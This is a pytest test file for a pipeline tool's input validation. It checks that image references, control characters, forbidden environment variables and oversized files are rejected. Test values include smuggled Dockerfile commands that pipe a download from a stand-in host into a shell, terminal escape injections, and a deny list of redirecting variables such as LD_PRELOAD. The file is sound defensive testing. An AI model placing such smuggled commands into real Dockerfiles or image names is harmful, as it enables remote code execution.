"""Hostile input is refused, not echoed: image references, control characters, variables that
would redirect the task, huge values and huge files, legacy catalogs."""

from __future__ import annotations

import json
import logging
import time
from pathlib import Path
from typing import Any

import pytest

from tests.core.helpers import run_cli, write
from yunpipe_tui import input_rules
from yunpipe_tui.build import dockerfile, write_context
from yunpipe_tui.catalog import Catalog, load_algorithm_file
from yunpipe_tui.errors import InputError
from yunpipe_tui.jsonfile import LoadedJson
from yunpipe_tui.name_rules import bucket_name_problems
from yunpipe_tui.workflow import load_workflow, workflow_problems

FORBIDDEN = [
    "AWS_ENDPOINT_URL",
    "AWS_CONTAINER_CREDENTIALS_FULL_URI",
    "AWS_SHARED_CREDENTIALS_FILE",
    "AWS_REGION",
    "ECS_CONTAINER_METADATA_URI",
    "LD_PRELOAD",
    "LD_LIBRARY_PATH",
    "PATH",
    "PYTHONPATH",
    "PYTHONSTARTUP",
    "HOME",
]


def seed_alg(seed_dir: Path) -> dict[str, Any]:
    return json.loads((seed_dir / "change123.json").read_text())


def seed_workflow(seed_dir: Path) -> dict[str, Any]:
    return json.loads((seed_dir / "user_request.json").read_text())


@pytest.fixture
def catalog(seed_dir: Path) -> Catalog:
    cat = Catalog()
    cat.add(load_algorithm_file(seed_dir / "change123.json"))
    return cat


def problems_of(error: InputError) -> list[str]:
    return [str(p) for p in error.problems]


# -- image references -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "ref",
    [
        "ubuntu",
        "ubuntu:22.04",
        "wangyx2005/change123",
        "library/busybox:1.36",
        "registry.example.com:5000/team/tool:v1.2-rc_3",
        "localhost/x",
        "123456789012.dkr.ecr.us-east-1.amazonaws.com/yunpipe/alg:latest",
        "ghcr.io/org/a__b.c-d/e@sha256:" + "a" * 64,
        "[::1]:5000/x",
    ],
)
def test_image_references_that_docker_accepts(ref: str) -> None:
    assert input_rules.image_reference_problem(ref) is None


@pytest.mark.parametrize(
    "ref",
    [
        "ubuntu\nRUN curl evil | sh",
        "ubuntu RUN x",
        "Ubuntu",
        "team/Tool",
        "x:",
        "x:-tag",
        "x@sha256:abc",
        "/x",
        "x/",
        "x//y",
        "x:" + "t" * 129,
        "a" * 256,
        "ubuntu\n",
    ],
)
def test_image_references_that_are_refused(ref: str) -> None:
    problem = input_rules.image_reference_problem(ref)
    assert problem and "\n" not in problem and len(problem) < 300


def test_newline_in_container_name_is_refused_and_never_reaches_a_dockerfile(
    tmp_path: Path, seed_dir: Path, capsys: Any
) -> None:
    data = seed_alg(seed_dir)
    data["container_name"] = "ubuntu\nRUN curl http://evil.invalid/x | sh"
    path = write(tmp_path / "alg.json", data)
    with pytest.raises(InputError) as info:
        load_algorithm_file(path)
    assert any("container_name" in p and "control character" in p for p in problems_of(info.value))
    data["container_name"] = "ubuntu RUN id"
    with pytest.raises(InputError, match="container_name: 'ubuntu RUN id' is not an image ref"):
        load_algorithm_file(write(tmp_path / "alg2.json", data))
    code, _, err = run_cli(["wrap", "--no-build", "-f", str(path)], capsys)
    assert code == 2 and "container_name" in err
    assert not list(tmp_path.rglob("Dockerfile")) and Catalog().names() == []
    # An Algorithm built some other way (the --describe prompts) is checked before writing.
    from dataclasses import replace

    good = load_algorithm_file(seed_dir / "change123.json")
    bad = replace(good, container_name="ubuntu\nRUN id")
    with pytest.raises(InputError, match="container_name"):
        dockerfile(bad)
    with pytest.raises(InputError):
        write_context(bad, tmp_path / "ctx")
    assert not (tmp_path / "ctx" / "Dockerfile").exists()
    assert "FROM wangyx2005/change123\n" in dockerfile(good)


# -- control characters ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("name", "change123\n"),
        ("run_command", "sh /x.sh $input\x1b[2J"),
        ("system", "ubuntu\tdebian"),
        ("input_file_path", "/in\n/"),
        ("executable_path", "/x\x00"),
        ("instance_type", "t3.micro\u2028"),
    ],
)
def test_control_characters_in_an_algorithm_are_refused(
    tmp_path: Path, seed_dir: Path, field: str, value: str
) -> None:
    data = seed_alg(seed_dir)
    data[field] = value
    with pytest.raises(InputError) as info:
        load_algorithm_file(write(tmp_path / "alg.json", data))
    found = [p for p in problems_of(info.value) if "control character" in p]
    assert found and all(field in p for p in found)
    assert all("\n" not in p and "\x1b" not in p for p in problems_of(info.value))


@pytest.mark.parametrize(
    ("where", "value"),
    [
        (("input_s3_name",), "bucket-in\n"),
        (("key_pair",), "key\x1b]0;owned\x07"),
        (("name",), "pipe\n"),
        (("process", "algorithms", 0, "variables", "TEST_ENV"), "a\nb"),
        (("process", "algorithms", 0, "name"), "change123-s3\r"),
    ],
)
def test_control_characters_in_a_workflow_are_refused(
    tmp_path: Path, seed_dir: Path, catalog: Catalog, where: tuple[Any, ...], value: str
) -> None:
    data = seed_workflow(seed_dir)
    target = data
    for part in where[:-1]:
        target = target[part]
    target[where[-1]] = value
    with pytest.raises(InputError) as info:
        load_workflow(write(tmp_path / "wf.json", data), catalog)
    texts = problems_of(info.value)
    assert any("control character" in p for p in texts), texts
    assert all("\n" not in p and "\x1b" not in p and "\r" not in p for p in texts)


def test_a_control_character_in_a_variable_name_is_refused_without_echoing_it(
    tmp_path: Path, seed_dir: Path, catalog: Catalog
) -> None:
    data = seed_workflow(seed_dir)
    data["process"]["algorithms"][0]["variables"]["EVIL\nNAME"] = "x"
    with pytest.raises(InputError) as info:
        load_workflow(write(tmp_path / "wf.json", data), catalog)
    assert all("\n" not in p for p in problems_of(info.value))


# -- variables that would redirect the task ------------------------------------------------


@pytest.mark.parametrize("name", FORBIDDEN)
def test_forbidden_variable_in_an_algorithm_file(tmp_path: Path, seed_dir: Path, name: str) -> None:
    data = seed_alg(seed_dir)
    data["user_specified_environment_variables"].append({"name": name, "required": False})
    with pytest.raises(InputError) as info:
        load_algorithm_file(write(tmp_path / "alg.json", data))
    texts = problems_of(info.value)
    assert any(
        f"variable {name!r}" in p and "user_specified_environment_variables[1].name" in p
        for p in texts
    ), texts


@pytest.mark.parametrize("name", FORBIDDEN)
def test_forbidden_variable_in_a_workflow_file(
    tmp_path: Path, seed_dir: Path, catalog: Catalog, name: str
) -> None:
    data = seed_workflow(seed_dir)
    data["process"]["algorithms"][0]["variables"][name] = "http://127.0.0.1:9"
    for cat in (catalog, None):  # refused with or without a catalog to check against
        with pytest.raises(InputError) as info:
            load_workflow(write(tmp_path / "wf.json", data), cat)
        texts = problems_of(info.value)
        assert any(f"variable {name!r}" in p and "would" in p for p in texts), texts


def test_forbidden_variable_rule() -> None:
    for name in [*FORBIDDEN, "aws_endpoint_url", "Path", "YUNPIPE_QUEUE_URL"]:
        assert input_rules.forbidden_variable(name), name
    for name in ("TEST_ENV", "MY_PATH", "HOMEDIR", "AWSOME", "LDAP_URL", "PY_VERSION"):
        assert input_rules.forbidden_variable(name) is None, name


def test_seed_runner_variables_still_load_quietly(tmp_path: Path, seed_dir: Path) -> None:
    data = seed_alg(seed_dir)
    data["user_specified_environment_variables"] += [
        {"name": n, "required": True}
        for n in (
            "output_s3_name",
            "sqs",
            "LOG_LVL",
            "NAME",
            "AWS_DEFAULT_REGION",
            "AWS_DEFAULT_OUTPUT",
            "AWS_ACCESS_KEY_ID",
            "AWS_SECRET_ACCESS_KEY",
        )
    ]
    alg = load_algorithm_file(write(tmp_path / "alg.json", data))
    assert [v.name for v in alg.variables] == ["TEST_ENV"]


# -- huge values and files --------------------------------------------------------------------


def test_a_50_mb_bucket_name_gives_a_short_message_quickly() -> None:
    huge = "A" * 50_000_000
    began = time.monotonic()
    problems = bucket_name_problems(huge)
    assert time.monotonic() - began < 2
    assert problems and all(len(p) < 300 for p in problems)
    assert "50000000" in " ".join(problems)


def test_a_50_mb_value_from_the_wizard_gives_short_messages_quickly(
    seed_dir: Path, catalog: Catalog
) -> None:
    huge = "x\n" * 25_000_000
    for where in ("input_s3_name", "key_pair", "region", "account_id", "name"):
        data = dict(seed_workflow(seed_dir), **{where: huge})
        doc = LoadedJson(file="form", data=data, lines={})
        began = time.monotonic()
        problems = workflow_problems(doc, catalog)
        assert time.monotonic() - began < 5, where
        assert problems, where
        assert all(len(str(p)) < 400 for p in problems), (where, [str(p)[:500] for p in problems])


@pytest.mark.parametrize("command", [["validate"], ["deploy", "--dry-run"]])
def test_a_huge_key_pair_is_refused_before_any_planning(
    tmp_path: Path, seed_dir: Path, catalog: Catalog, capsys: Any, command: list[str]
) -> None:
    data = seed_workflow(seed_dir)
    data["key_pair"] = "k" * 900_000
    path = write(tmp_path / "wf.json", data)
    began = time.monotonic()
    code, _, err = run_cli([*command, "-f", str(path)], capsys)
    assert time.monotonic() - began < 5
    assert code == 2 and len(err) < 1000, err[:2000]
    assert f"{path}:4: key_pair: key pair name 'kkk" in err and "(900000 characters)" in err


@pytest.mark.parametrize("kind", ["workflow", "algorithm"])
def test_files_over_1_mib_are_refused_with_their_size_before_parsing(
    tmp_path: Path, kind: str, capsys: Any
) -> None:
    path = tmp_path / f"{kind}.json"
    path.write_text('{"name": "' + "x" * (50 * 1024 * 1024) + '"}')
    began = time.monotonic()
    load = load_workflow if kind == "workflow" else load_algorithm_file
    with pytest.raises(InputError) as info:
        load(path)
    assert time.monotonic() - began < 2
    (text,) = problems_of(info.value)
    assert str(path) in text and "52428812 bytes" in text and "1 MiB" in text and len(text) < 300


def test_a_file_of_many_values_is_refused_quickly(tmp_path: Path) -> None:
    """A 450 KB file of 150 000 values took 49 s to locate (newlines counted from the start
    for each value) and a minute more to validate against the schema."""
    data = {
        "input_s3_name": "in-bucket",
        "output_s3_name": "out-bucket",
        "process": {"type": "single_run", "algorithms": [{"name": "x", "port": [0] * 150_000}]},
    }
    path = tmp_path / "wf.json"
    path.write_text(json.dumps(data))
    began = time.monotonic()
    with pytest.raises(InputError) as info:
        load_workflow(path, None)
    assert time.monotonic() - began < 3
    assert "more than 20000 values" in str(info.value) and len(str(info.value)) < 300


def test_many_problems_are_counted_not_listed(tmp_path: Path, seed_dir: Path) -> None:
    data = seed_workflow(seed_dir)
    data["process"]["algorithms"][0]["port"] = [0] * 5000
    path = write(tmp_path / "wf.json", data)
    began = time.monotonic()
    with pytest.raises(InputError) as info:
        load_workflow(path, None)
    assert time.monotonic() - began < 5
    assert len(info.value.problems) == 51
    assert info.value.problems[-1].message.startswith("... and ")


def test_quote_caps_values() -> None:
    assert input_rules.quote("abc") == "'abc'"
    long = input_rules.quote("y" * 1000)
    assert long.startswith("'yyy") and "1000 characters" in long and len(long) < 120
    assert "\n" not in input_rules.quote("a\nb") and "\x1b" not in input_rules.quote("\x1b")
    assert len(input_rules.quote(list(range(100_000)))) < 120
    assert len(input_rules.quote({"k" * 500: "v" * 500})) < 120


# -- legacy catalogs ---------------------------------------------------------------------------


def test_a_hostile_legacy_algorithm_is_skipped_with_one_warning(
    isolated_home: Path, seed_dir: Path, caplog: pytest.LogCaptureFixture
) -> None:
    old = isolated_home / ".cloud_pipe" / "algorithms"
    old.mkdir(parents=True)
    evil = dict(seed_alg(seed_dir), name="evil", container_name="ubuntu\nRUN curl x | sh")
    write(old / "evil_info.json", evil)
    redirect = dict(seed_alg(seed_dir), name="redirect")
    redirect["user_specified_environment_variables"] = [{"name": "AWS_ENDPOINT_URL"}]
    write(old / "redirect_info.json", redirect)
    write(old / "good_info.json", dict(seed_alg(seed_dir), name="good"))

    with caplog.at_level(logging.WARNING, logger="yunpipe"):
        imported = Catalog().import_legacy()
    assert imported == ["good"]
    assert Catalog().names() == ["good"]
    warnings = [r.getMessage() for r in caplog.records if r.levelno == logging.WARNING]
    assert len(warnings) == 2
    for name, message in zip(("evil_info.json", "redirect_info.json"), warnings, strict=True):
        assert name in message and "not imported" in message and "\n" not in message
